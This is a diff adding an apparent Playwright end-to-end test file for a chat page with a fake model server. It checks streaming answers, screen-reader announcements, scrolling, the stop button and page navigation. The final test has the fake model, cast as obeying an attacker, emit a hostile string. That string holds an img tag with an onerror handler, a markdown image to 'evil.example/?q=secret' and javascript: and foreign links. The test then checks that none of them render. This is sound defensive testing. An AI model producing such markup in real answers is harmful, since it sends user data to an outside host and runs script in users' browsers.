@@ -1,0 +1,119 @@
+// Answers as they are written, by a language model that is a small server of our own: shown, spoken, stopped, and safe.
+import { startFakeModel } from "../test/fake-model.ts";
+import type { FakeModel } from "../test/fake-model.ts";
+import { expectAccessible } from "./axe.ts";
+import { begin, distanceOf, input, list, messages, openChat, placeholder, sendButton, settled, stopButton } from "./chat-page.ts";
+import { startSite } from "./site.ts";
+import { expect, test as base } from "./test.ts";
+import { eventually } from "./visitor.ts";
+
+const question = "How long does a project take?";
+const sentences = Array.from({ length: 24 }, (_, index) => `Sentence ${index + 1} of the answer is here.`);
+const slowly = { kind: "say", pieces: sentences.join(" ").match(/\S+\s*/g) ?? [], pauseMs: 60 } as const;
+
+const test = base.extend<{ model: FakeModel }>({
+  model: [
+    async ({}, use) => {
+      const model = await startFakeModel();
+      await use(model);
+      await model.close();
+    },
+    { scope: "file" },
+  ],
+  site: [
+    async ({ model }, use) => {
+      const site = await startSite({ AI_BASE_URL: model.url, AI_MODEL: "fake-1", AI_ANSWER_SECONDS: "60" });
+      await use(site);
+      await site.stop();
+    },
+    { scope: "file" },
+  ],
+});
+
+test("[A17,A19,CHAT-28] an answer grows as it is written; a reader who goes up stays there; screen readers hear sentences, one every 2 s at most", async ({ page, model }) => {
+  model.behave(slowly);
+  await openChat(page);
+  await begin(page);
+  await page.evaluate(() => {
+    const said: { at: number; text: string }[] = [];
+    Object.assign(globalThis, { said });
+    const log = document.querySelector('[role="log"]');
+    if (!log || log.getAttribute("aria-live") !== "polite") throw new Error("There is no polite log.");
+    new MutationObserver((changes) => {
+      for (const { addedNodes } of changes) for (const node of addedNodes) said.push({ at: performance.now(), text: node.textContent ?? "" });
+    }).observe(log, { childList: true, subtree: true });
+  });
+  await input(page).fill(question);
+  await input(page).press("Enter");
+  await messages(page, "assistant").getByText("Sentence 1 of").waitFor();
+  const early = (await messages(page, "assistant").innerText()).length;
+  expect([await input(page).isDisabled(), await sendButton(page).isDisabled(), await stopButton(page).isVisible()]).toEqual([true, true, true]);
+  expect(await list(page).getAttribute("aria-busy")).toBe("true");
+  await expectAccessible(page, "streaming");
+  await settled(page, 1);
+  expect((await messages(page, "assistant").innerText()).length).toBeGreaterThan(early);
+  await eventually(() => page.evaluate(() => (Object(globalThis).said as { text: string }[]).some(({ text }) => text.includes("Sentence 24")))).toBe(true);
+  const said = await page.evaluate(() => Object(globalThis).said as { at: number; text: string }[]);
+  expect(said.length).toBeGreaterThan(2);
+  for (const [index, { at, text }] of said.entries()) {
+    if (index > 0) expect(at - (said[index - 1]?.at ?? 0)).toBeGreaterThan(1900);
+    expect(text).toMatch(/^(The assistant is writing|(Sentence \d+ of the answer is here\. ?)+)$/);
+  }
+  // Again, and the reader goes up while it grows.
+  await input(page).fill(question);
+  await input(page).press("Enter");
+  await messages(page, "assistant").nth(1).getByText("Sentence 2 of").waitFor();
+  await list(page).hover();
+  await page.mouse.wheel(0, -120);
+  await eventually(() => distanceOf(list(page))).toBeGreaterThan(50);
+  await page.waitForTimeout(150);
+  const top = await list(page).evaluate((element) => element.scrollTop);
+  await messages(page, "assistant").nth(1).getByText("Sentence 20 of").waitFor();
+  expect(await list(page).evaluate((element) => element.scrollTop)).toBe(top);
+  await settled(page, 2);
+  expect(await list(page).evaluate((element) => element.scrollTop)).toBe(top);
+});
+
+test("the stop button ends the writing within a second, and what was written stays", async ({ page, model }) => {
+  model.behave(slowly);
+  await openChat(page);
+  await begin(page);
+  await input(page).fill(question);
+  await input(page).press("Enter");
+  await messages(page, "assistant").getByText("Sentence 3 of").waitFor();
+  await stopButton(page).click();
+  const stoppedAt = Date.now();
+  await eventually(() => model.open()).toBe(0);
+  expect(Date.now() - stoppedAt).toBeLessThan(2000); // 1 s, and what a busy machine adds
+  await settled(page, 1);
+  expect(await page.locator('[data-slot="toast"]').count()).toBe(0);
+  await page.reload();
+  await messages(page, "assistant").getByText("Sentence 2 of").waitFor();
+  expect(await messages(page, "assistant").innerText()).not.toContain("Sentence 24");
+});
+
+test("leaving the page ends the writing", async ({ page, model }) => {
+  model.behave(slowly);
+  await openChat(page);
+  await begin(page);
+  await input(page).fill(question);
+  await input(page).press("Enter");
+  await messages(page, "assistant").getByText("Sentence 1 of").waitFor();
+  expect(model.open()).toBe(1);
+  await page.getByRole("link", { name: "About", exact: true }).first().click();
+  await eventually(() => model.open()).toBe(0);
+});
+
+test("[P2] a model that obeys an attacker puts no HTML, no picture and no foreign link on the page", async ({ page, model }) => {
+  const hostile = 'Yes. <img src="https://evil.example/a.png" onerror="document.title=1"> ![x](https://evil.example/?q=secret) [click](https://evil.example/) [run](javascript:alert(1)) [go](//evil.example) **[bold](https://evil.example)** [prices](/faq) [1]';
+  model.behave({ kind: "say", pieces: hostile.match(/[\s\S]{1,9}/g) ?? [], pauseMs: 5 });
+  await openChat(page);
+  await begin(page);
+  await input(page).fill(question);
+  await input(page).press("Enter");
+  await settled(page, 1);
+  await placeholder(page).waitFor({ state: "detached" });
+  const answer = messages(page, "assistant");
+  expect(await answer.locator("img, iframe, script, style").count()).toBe(0);
+  for (const href of await answer.locator("a").evaluateAll((all) => all.map((link) => Object(link).href as string))) expect(new URL(href).hostname).toBe("localhost");
+});
